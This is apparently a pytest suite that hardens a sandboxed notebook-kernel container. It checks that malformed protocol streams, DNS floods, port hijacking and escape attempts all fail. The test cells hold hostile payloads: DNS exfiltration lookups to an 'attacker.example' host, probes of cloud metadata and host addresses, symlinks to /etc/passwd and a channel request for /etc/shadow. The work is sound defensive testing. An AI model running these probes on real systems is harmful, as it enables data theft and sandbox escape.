def test_nothing_listens_on_the_host(box: Box) -> None:
    tables = [Path(f"/proc/self/net/{name}") for name in ("tcp", "tcp6", "udp", "udp6", "raw", "vsock")]
    rows = [line.split() for table in tables if table.exists() for line in table.read_text().splitlines()[1:]]
    ours = set()
    for entry in Path("/proc/self/fd").iterdir():
        with suppress(OSError):
            ours.add(os.readlink(entry))
    assert ours
    assert not [row for row in rows if f"socket:[{row[9]}]" in ours and row[3] in ("0A", "07")]


# ── a peer that does not keep to the protocol ───────────────────────────────────────────────────────────────────────


def frame(kind: bytes, channel: int = 0, payload: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack("!cII", kind, channel, len(payload) if size is None else size) + payload


STREAMS = {
    "noise": os.urandom(1 << 16),
    "zeros": bytes(1 << 16),
    "a frame of 4 GB": frame(b"D", 1, size=0xFFFFFFFF),
    "a type that there is not": frame(b"Z"),
    "an answer before the question": frame(b"G", 0, b"{}") * 2,
    "an answer that is no object": frame(b"G", 0, b"[" * 100_000),
    "an exit that is none": frame(b"X", 0, b'{"code": "' + b"9" * 100_000 + b'"}'),
    "data for a channel that nobody opened": frame(b"D", 7, b"x"),
    "a channel to somewhere else": frame(b"O", 0x80000000, b"/etc/shadow"),
    "the same channel twice": frame(b"O", 0x80000000, b"proxy") * 2,
    "text without end": frame(b"L", 0, b"x" * 100_000) * 2_000,
    "channels without end": b"".join(frame(b"O", 0x80000000 + number, b"proxy") for number in range(100_000)),
}


@pytest.mark.parametrize("stream", STREAMS.values(), ids=STREAMS)
def test_a_hostile_stream_ends_the_link_and_no_more(stream: bytes, tmp_path: Path) -> None:
    ours, theirs = socket.socketpair()
    with tempfile.TemporaryDirectory(prefix="eco-") as folder, theirs:
        channels = {number: f"{folder}/k-{number}" for number in range(1, 6)}
        mux = Mux(ours, framed=False, hello={"cwd": "/"}, channels=channels)

        def speak() -> None:
            with suppress(OSError):
                theirs.sendall(stream)
                theirs.shutdown(socket.SHUT_WR)

        def listen() -> None:
            with suppress(OSError):
                while theirs.recv(1 << 16):
                    pass

        threads = [threading.Thread(target=work) for work in (speak, listen)]
        for thread in threads:
            thread.start()
        with little_memory():
            try:
                mux.start()
            except NoSandbox:
                pass
            assert mux.gone.wait(DEADLINE)
            mux.close()
        for thread in threads:
            thread.join(DEADLINE)
            assert not thread.is_alive()
        assert os.listdir(folder) == []


def test_a_kernel_that_speaks_nonsense_harms_nobody(box: Box) -> None:
    nonsense = """
import json, os
kernel = get_ipython().kernel
parent = kernel.get_parent()
for content in ({"name": 5, "text": {}}, {"name": "stdout", "text": None}, {"data": []}, {"data": {"text/plain": 5}},
                {"execution_state": []}, {"traceback": {}, "ename": [], "evalue": 7}, {"code": "x" * 1000}, {}):
    for kind in ("stream", "display_data", "execute_result", "status", "error", "execute_input", "x" * 10_000):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
for parts in ([b""], [b"x"] * 100, [b"<IDS|MSG>"], [b"<IDS|MSG>", b"sign", b"{", b"}", b"[]", b"null"],
              [b"<IDS|MSG>", b"", b"[" * 100_000, b"{}", b"{}", b"{}"]):
    kernel.iopub_socket.send_multipart(parts)
for content in (b'"' + b'\\"' * 2_500_000, b'"' + b"x" * 5_000_000, b'[' + b'"x",' * 1_400_000 + b"1]"):
    kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", b"", b"{}", b"{}", b"{}", content])
print("end")
"""
    with little_memory():
        assert box.cell(nonsense, seconds=10).status in ("ok", "error", "timeout")
    assert box.works()


def test_a_kernel_whose_sockets_code_replaced_comes_back(box: Box) -> None:
    replace = """
import os, socket
for number in range(1, 6):
    os.unlink(f"/run/eco/k-{number}"); os.symlink("/etc/passwd", f"/run/eco/k-{number}")
os.kill(os.getpid(), 9)
"""
    assert box.cell(replace).status == "killed"


# ── names carry nothing out ─────────────────────────────────────────────────────────────────────────────────────────


def test_a_name_that_is_looked_up_is_told_to_nobody(box: Box) -> None:
    looks = """
import socket
for number in range(200): socket.getaddrinfo(f"{number:060x}.secrets.attacker.example", 443)
print(open("/etc/resolv.conf").read().split(), socket.gethostbyname("a.attacker.example").split(".")[0])
for server in ("1.1.1.1", "8.8.8.8", "192.0.2.53", "169.254.169.254", "172.17.0.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        try: asking.sendto(b"x" * 30, (server, 53)); print("sent to", server)
        except OSError: pass
"""
    result = box.cell(looks)
    assert result.text == "['nameserver', '127.0.0.1'] 127\n", result
    assert result.accesses == ()


def test_ten_thousand_names_take_a_bounded_piece_of_pid_1(box: Box) -> None:
    looks = "import socket\nfor number in range(10_000): socket.gethostbyname(f'{number:063x}.{number:063x}.example')"

    def size() -> int:
        rows = box.engine.api.top(box.id, "-eo pid,rss,args")["Processes"]
        return next(int(rss) for _, rss, command in rows if "relay" in command)

    before = size()
    assert box.cell(looks).status == "ok"
    assert size() - before < 8_000  # kilobytes
    assert box.cell("import urllib.request as u\nu.urlopen('https://elsewhere.example')").accesses[0].refused


def test_no_name_leads_to_the_host_or_to_the_container_s_own_services(box: Box, service: Service) -> None:
    asks = f"""
import http.client, ssl
for name in ("localhost.attacker.example", "127.0.0.1.attacker.example", "metadata", "host.docker.internal"):
    for port in (80, 443, {service.port}, 3128):
        kind = http.client.HTTPSConnection if port == 443 else http.client.HTTPConnection
        try:
            connection = kind(name, port, timeout=5)
            connection.request("GET", "/")
            print(connection.getresponse().status)
        except ConnectionRefusedError: print("refused")
"""
    assert box.says(asks).split() == ["403", "403", "refused", "refused"] * 4
    assert service.visitors == []


def test_questions_for_names_that_make_no_sense_hold_nothing_up(box: Box) -> None:
    asks = """
import os, socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
    flood.connect(("127.0.0.1", 53))
    for number in range(20_000): flood.send(os.urandom(number % 1500))
    flood.send(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\xc0\\x0c" * 300)
socket.setdefaulttimeout(5)
print(socket.gethostbyname("a.example")[:4])
"""
    assert box.says(asks) == "127."


def test_nobody_takes_the_place_of_the_name_server_or_of_a_host(box: Box) -> None:
    attempts = """
import socket
for address, port in (("127.0.0.1", 53), ("0.0.0.0", 53), ("127.64.0.1", 443), ("0.0.0.0", 80), ("127.0.0.1", 3128)):
    for kind in (socket.SOCK_DGRAM,) if port == 53 else (socket.SOCK_STREAM,):
        with socket.socket(socket.AF_INET, kind) as taking:
            for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): taking.setsockopt(socket.SOL_SOCKET, option, 1)
            try:
                taking.bind((address, port))
                if kind == socket.SOCK_STREAM: taking.listen()
                print("took", address, port)
            except OSError: pass
"""
    assert box.says(attempts) == ""
